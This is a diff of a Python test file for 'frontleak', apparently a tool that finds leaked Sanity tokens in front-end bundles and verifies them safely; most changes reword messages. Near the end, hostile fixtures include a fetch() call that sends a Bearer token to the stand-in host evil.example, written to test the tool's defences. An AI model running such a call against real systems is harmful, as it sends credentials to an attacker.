@@ -1,4 +1,4 @@
-"""`frontleak verify` and `frontleak scan --verify` as they are installed, against the local API."""
+"""The installed `frontleak verify` and `frontleak scan --verify`, against the local API."""
 
 import json
 import signal
@@ -29,40 +29,40 @@ TOKEN = token("command")
 
 
 def verify(api: SanityApi, *arguments: str | Path, cwd: Path, value: str = TOKEN, env: Mapping[str, str] = {}) -> Run:
-    """Give a token to `frontleak verify` on standard input; it may not come out again."""
+    """Pass a token to `frontleak verify` on standard input, and check that the output does not contain it."""
     done = run_wrapped(api, "verify", *arguments, cwd=cwd, stdin=value.encode(), env=env)
     assert no_part_of(TOKEN, done.stdout + done.stderr)
     return done
 
 
 def no_part_of(secret: str, data: bytes) -> bool:
-    """Say whether nothing beyond the four characters that a redacted secret shows is in some bytes."""
+    """Return whether some bytes contain no more than the four characters shown of a redacted secret."""
     return not any(secret[start : start + 6].encode() in data for start in range(len(secret) - 6))
 
 
 # --- what is refused -------------------------------------------------------------------------------------------------
 
 REFUSED: Mapping[str, tuple[Sequence[str], Mapping[str, str], bytes, str]] = {
-    "a token as an argument": (["verify", TOKEN], {}, b"", "not taken as an argument, because arguments are kept"),
-    "a token after dashes": (["verify", "--", TOKEN], {}, b"", "not taken as an argument"),
-    "a token beside one on standard input": (["verify", TOKEN], {}, TOKEN.encode(), "not taken as an argument"),
+    "a token as an argument": (["verify", TOKEN], {}, b"", "cannot be an argument: arguments are stored"),
+    "a token after dashes": (["verify", "--", TOKEN], {}, b"", "cannot be an argument"),
+    "a token beside one on standard input": (["verify", TOKEN], {}, TOKEN.encode(), "cannot be an argument"),
     "a token as an option": (["verify", "--token", TOKEN], {}, b"", "No such option"),
-    "a token as the name of a variable": (["verify", "--token-env", TOKEN], {}, b"", "is not set, or empty"),
-    "a token as a project": (["verify", "--project", TOKEN], {}, b"", "a project id is made of"),
-    "a token as a dataset": (["verify", "--dataset", f"/{TOKEN}"], {}, b"", "the name of a dataset is made of"),
-    "no token": (["verify"], {}, b" \n", "one token is expected, and nothing was given"),
+    "a token as the name of a variable": (["verify", "--token-env", TOKEN], {}, b"", "is unset or empty"),
+    "a token as a project": (["verify", "--project", TOKEN], {}, b"", "a project id consists of"),
+    "a token as a dataset": (["verify", "--dataset", f"/{TOKEN}"], {}, b"", "a dataset name consists of"),
+    "no token": (["verify"], {}, b" \n", "expected one token, got nothing"),
     "two tokens": (["verify"], {}, f"{TOKEN}\n{TOKEN}".encode(), "several words or lines"),
-    "an empty variable": (["verify", "--token-env", "X"], {"X": ""}, b"", "is not set, or empty"),
+    "an empty variable": (["verify", "--token-env", "X"], {"X": ""}, b"", "is unset or empty"),
     "in a hook": (["verify"], {"PRE_COMMIT": "1"}, TOKEN.encode(), "refused in a pre-commit hook"),
     "offline by flag": (["verify", "--offline"], {}, TOKEN.encode(), "--offline (or FRONTLEAK_OFFLINE) forbids"),
     "offline by variable": (["verify"], {"FRONTLEAK_OFFLINE": "1"}, TOKEN.encode(), "forbids"),
-    "a record in no folder": (["verify", "--record", "x/y"], {}, TOKEN.encode(), "there is no folder"),
+    "a record in no folder": (["verify", "--record", "x/y"], {}, TOKEN.encode(), "folder x does not exist"),
     "a scan in a hook": (["scan", "--verify"], {"PRE_COMMIT": "1"}, b"", "refused in a pre-commit hook"),
     "a scan offline by flag": (["scan", "--verify", "--offline"], {}, b"", "forbids"),
     "a scan offline by variable": (["scan", "--verify"], {"FRONTLEAK_OFFLINE": "true"}, b"", "forbids"),
-    "a project without --verify": (["scan", "--project=abcd1234"], {}, b"", "give --verify too"),
-    "a cache without --verify": (["scan", "--verify-cache=x"], {}, b"", "give --verify too"),
-    "a project that is none": (["scan", "--verify", "--project=evil.example/#"], {}, b"", "a project id is made of"),
+    "a project without --verify": (["scan", "--project=abcd1234"], {}, b"", "requires --verify"),
+    "a cache without --verify": (["scan", "--verify-cache=x"], {}, b"", "requires --verify"),
+    "a project that is none": (["scan", "--verify", "--project=evil.example/#"], {}, b"", "a project id consists of"),
     "a cache that is another file": (["scan", "--verify", "--verify-cache=a.js"], {}, b"", "a.js: "),
 }
 
@@ -86,7 +86,7 @@ def test_no_file_can_switch_verification_on_or_steer_it(tmp_path: Path, name: st
     for arguments in (["--verify"], ["--config=ci.toml"]):
         done = frontleak("scan", *arguments, cwd=tmp_path)
         assert done.code == 2
-        assert f"unknown option {name!r}: only the command line can ask for it" in done.err
+        assert f"unknown option {name!r}: only a command-line flag can set it" in done.err
 
 
 def test_no_variable_can_either(tmp_path: Path) -> None:
@@ -115,7 +115,7 @@ def test_rules_that_a_file_of_the_tree_chose_do_not_decide_what_is_sent(tmp_path
 # --- frontleak verify ------------------------------------------------------------------------------------------------
 
 
-HOW = "the access list of dataset production gives it create, update"
+HOW = "the access list of dataset production grants it create, update"
 
 
 def test_an_active_token(api: SanityApi, tmp_path: Path) -> None:
@@ -126,7 +126,7 @@ def test_an_active_token(api: SanityApi, tmp_path: Path) -> None:
     assert lines[0] == "active: robot token, can-write in project abcd1234, dataset production (editor)"
     assert lines[1:4] == [
         "    label     CI Robot (Robot)",
-        f"    how       Sanity names who the token belongs to; {HOW}",
+        f"    how       Sanity returned the token's account; {HOW}",
         "    evidence  abcd1234.api.sanity.io/v2021-06-07/users/me: 200",
     ]
     assert lines[-1].startswith(
@@ -149,7 +149,7 @@ def test_a_token_in_a_variable_and_the_verdict_as_json(api: SanityApi, tmp_path:
             jsonschema.validate(value, {"$defs": schema["$defs"], "$ref": f"#/$defs/{definition}"})
 
 
-# What the API says -> exit code.
+# Response of the API -> exit code.
 CODES: Mapping[str, tuple[Reply, int, str]] = {
     "unknown token": (answers(401, NOT_FOUND), 0, "inactive"),
     "an error of the server": (answers(500, {}), 3, "unknown"),
@@ -169,7 +169,7 @@ def test_exit_codes(api: SanityApi, tmp_path: Path, reply: Reply, code: int, wor
 def test_without_a_network_the_answer_is_unknown(tmp_path: Path, api: SanityApi) -> None:
     done = verify(api, cwd=tmp_path, env={"HTTPS_PROXY": "http://127.0.0.1:1"})
     assert (done.code, done.out.splitlines()[0]) == (3, "unknown")
-    assert "the proxy that the environment names does not work" in done.out
+    assert "the proxy set in the environment does not work" in done.out
 
 
 def test_a_dry_run_lists_the_calls_and_makes_none(tmp_path: Path) -> None:
@@ -199,7 +199,7 @@ def bundle(value: str = TOKEN, project: str = "abcd1234") -> str:
 
 
 def scan(api: SanityApi, *arguments: str, cwd: Path, env: Mapping[str, str] = {}, injected: bool = True) -> Run:
-    """Scan and verify, with every kind of report beside standard output; no token may come out anywhere."""
+    """Scan and verify with every report format, and check that no output contains a token."""
     before = {file for file in cwd.rglob("*") if not file.name.startswith("out.")}
     outputs = [part for name in ("text", "json", "jsonl", "sarif") for part in ("--format", name, "-o", f"out.{name}")]
     done = run_wrapped(api, "scan", "--verify", *arguments, *outputs, cwd=cwd, env=env, injected=injected)
@@ -218,7 +218,7 @@ def report(folder: Path) -> dict[str, Any]:
 
 @pytest.fixture
 def tree(tmp_path: Path) -> Path:
-    """Make a folder with a token in three places."""
+    """Create a folder with a token in three places."""
     files = {"dist/a.js": bundle(), "dist/b.js": bundle(), "src/c.env": f"SANITY_TOKEN={TOKEN}\n"}
     return write(tmp_path / "tree", files)
 
@@ -262,7 +262,7 @@ def test_other_verdicts_have_other_severities(
     (finding,) = report(tree)["findings"]
     assert finding["severity"] == severity
     if severity == "medium":
-        assert "drafts included" in finding["verdict"]["reason"]
+        assert "including drafts" in finding["verdict"]["reason"]
 
 
 def test_findings_are_ordered_by_what_the_secrets_may_do(api: SanityApi, tmp_path: Path) -> None:
@@ -335,7 +335,7 @@ HOSTILE_IDS = (
 
 @pytest.fixture
 def everything_hostile(tmp_path: Path) -> Path:
-    """Make a folder of bundles that name hosts of their own as projects, each near the same token."""
+    """Create a folder of bundles that name their own hosts as projects, each near the same token."""
     files = {f"dist/{number}.js": bundle(project=name) for number, name in enumerate(HOSTILE_IDS)}
     files["dist/x.js"] = (
         f'fetch("https://evil.example/v1/data/mutate/../x",{{headers:{{Authorization:"Bearer {TOKEN}"}}}})'
